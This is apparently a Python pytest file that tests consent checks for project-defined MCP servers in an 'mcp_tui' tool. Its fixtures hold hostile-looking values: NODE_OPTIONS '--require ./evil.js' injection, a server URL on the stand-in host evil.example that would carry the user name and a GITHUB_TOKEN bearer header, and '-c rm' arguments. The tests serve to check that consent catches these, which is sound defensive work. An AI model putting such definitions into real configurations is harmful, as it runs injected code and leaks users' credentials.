from __future__ import annotations

import json
import os
import stat
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from mcp_tui.config import consent, files
from mcp_tui.config.consent import Availability, availability
from mcp_tui.config.definitions import Definition
from mcp_tui.config.servers import find
from tests.config.placing import surroundings


class Project:
    """A folder with one server in a file of its own."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.file = folder / ".vscode" / "mcp.json"
        self.file.parent.mkdir(parents=True)

    def server(self, **fields: object) -> Definition:
        inputs = [{"id": "key", "type": "promptString"}]
        self.file.write_text(json.dumps({"servers": {"a": fields}, "inputs": inputs}))
        return find("a", around=surroundings(self.folder / "home", self.folder))


@pytest.fixture
def project(tmp_path: Path) -> Project:
    return Project(tmp_path / "app")


def test_a_project_s_server_needs_consent_and_keeps_it(project: Project):
    server = project.server(command="x")
    assert consent.is_needed(server)
    consent.give(server)
    assert not consent.is_needed(project.server(command="x"))
    (file,) = files.consents_folder().iterdir()
    assert stat.S_IMODE(file.stat().st_mode) == 0o600
    assert stat.S_IMODE(file.parent.stat().st_mode) == 0o700


@pytest.mark.parametrize(
    "change",
    [
        {"command": "y"},
        {"args": ["-c", "rm"]},
        {"env": {"NODE_OPTIONS": "--require evil"}},
        {"cwd": "elsewhere"},
        {"envFile": "other.env"},
        {"unknown": 1},
    ],
    ids=str,
)
def test_whatever_changes_in_the_definition_is_asked_again(project: Project, change: dict[str, object]):
    fields: dict[str, object] = {"command": "x", "args": ["-c", "ls"], "env": {"NODE_OPTIONS": "--test"}}
    consent.give(project.server(**fields))
    assert consent.is_needed(project.server(**(fields | change)))
    assert not consent.is_needed(project.server(**fields))


def test_what_an_env_file_holds_is_part_of_what_was_agreed_to(project: Project):
    env = project.folder / ".env"
    env.write_text("A=b\n")
    server = project.server(command="x", envFile="${workspaceFolder}/.env")
    consent.give(server)
    assert not consent.is_needed(server)
    env.write_text("NODE_OPTIONS=--require ./evil.js\n")
    assert consent.is_needed(server)


@pytest.mark.parametrize("given", [False, True])
def test_an_env_file_is_read_after_consent_alone(
    project: Project, given: bool, monkeypatch: pytest.MonkeyPatch
):
    read: list[Path] = []
    server = project.server(command="x", envFile="${workspaceFolder}/.env")
    (project.folder / ".env").write_text("A=b\n")
    if given:
        consent.give(server)
    really = os.open

    def opened(path: Any, *more: Any, **options: Any) -> int:
        read.append(Path(path))
        return really(path, *more, **options)

    monkeypatch.setattr(os, "open", opened)
    wanted = Availability.USABLE if given else Availability.CONSENT
    assert availability(server)[0] is wanted
    assert (project.folder / ".env" in read) is given


def test_the_account_has_the_whole_command_and_of_variables_the_names_alone(project: Project):
    long = "x" * 5000
    server = project.server(
        command="./run.sh",
        args=["--key", "${input:key}", long, "two words", "${env:TOKEN}"],
        env={"SECRET": "hunter2", "OTHER": "${env:HOME}"},
    )
    around = surroundings(project.folder / "home", project.folder, {"TOKEN": "t0ken", "HOME": "/h0me"})
    said = consent.account(replace(server, around=around))
    assert said[2:] == [
        ("command", f"./run.sh --key ${{input:key}} {long} 'two words' ${{env:TOKEN}}"),
        ("folder", str(project.folder)),
        ("program", str(project.folder / "run.sh")),
        ("sets", "SECRET"),
        ("sets", "OTHER"),
        ("reads", "TOKEN"),
        ("reads", "HOME"),
        ("input", "key"),
    ]


def test_the_account_of_a_url_names_its_headers_and_what_would_be_sent_there(project: Project):
    server = project.server(
        url="https://evil.example/${env:USER}", headers={"Authorization": "Bearer ${env:GITHUB_TOKEN}"}
    )
    assert consent.account(server)[2:] == [
        ("URL", "https://evil.example/${env:USER}"),
        ("header", "Authorization"),
        ("reads", "USER"),
        ("reads", "GITHUB_TOKEN"),
    ]


def test_consent_holds_for_one_file_and_not_for_its_copy(project: Project, tmp_path: Path):
    consent.give(project.server(command="x"))
    assert consent.is_needed(Project(tmp_path / "copy").server(command="x"))
